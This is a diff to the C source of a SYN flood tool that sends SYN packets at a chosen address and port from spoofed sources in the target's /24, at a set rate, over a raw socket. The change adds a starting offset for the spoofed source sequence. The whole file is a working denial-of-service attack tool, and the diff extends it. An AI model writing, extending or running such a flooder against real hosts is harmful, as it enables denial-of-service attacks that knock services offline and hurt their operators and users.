@@ -1,6 +1,7 @@
-// Throws SYNs at a port from spoofed sources that never answer: `syn-flood ADDRESS PORT COUNT PER_SECOND`, as root, IPv4.
-// The sources are the other addresses of the target's /24, each with every port from 1024 on, in turn; the SYNs carry the options
-// that Linux's carry. Ends after COUNT packets, or after a minute; prints how many the kernel has taken.
+// Throws SYNs at a port from spoofed sources that never answer: `syn-flood ADDRESS PORT COUNT PER_SECOND FIRST`, as root,
+// IPv4. The sources are the other addresses of the target's /24, each with every port from 1024 on, in turn, from
+// the one numbered FIRST; the SYNs carry the options that Linux's carry. Ends after COUNT packets, or after a minute; prints how
+// many the kernel has taken.
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
@@ -52,12 +53,13 @@ static void compose(uint8_t *packet, uint32_t target, uint16_t port, uint64_t nu
 
 int main(int count, char **arguments) {
   struct sockaddr_in target = {.sin_family = AF_INET};
-  if (count != 5 || inet_pton(AF_INET, arguments[1], &target.sin_addr) != 1) {
-    fprintf(stderr, "syn-flood ADDRESS PORT COUNT PER_SECOND\n");
+  if (count != 6 || inet_pton(AF_INET, arguments[1], &target.sin_addr) != 1) {
+    fprintf(stderr, "syn-flood ADDRESS PORT COUNT PER_SECOND FIRST\n");
     return 2;
   }
   uint16_t port = (uint16_t)atoi(arguments[2]);
-  uint64_t wanted = strtoull(arguments[3], NULL, 10), sent = 0, composed = 0;
+  uint64_t wanted = strtoull(arguments[3], NULL, 10), sent = 0;
+  uint64_t composed = strtoull(arguments[5], NULL, 10);
   double rate = atof(arguments[4]), began = now();
   int descriptor = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
   if (descriptor < 0) {
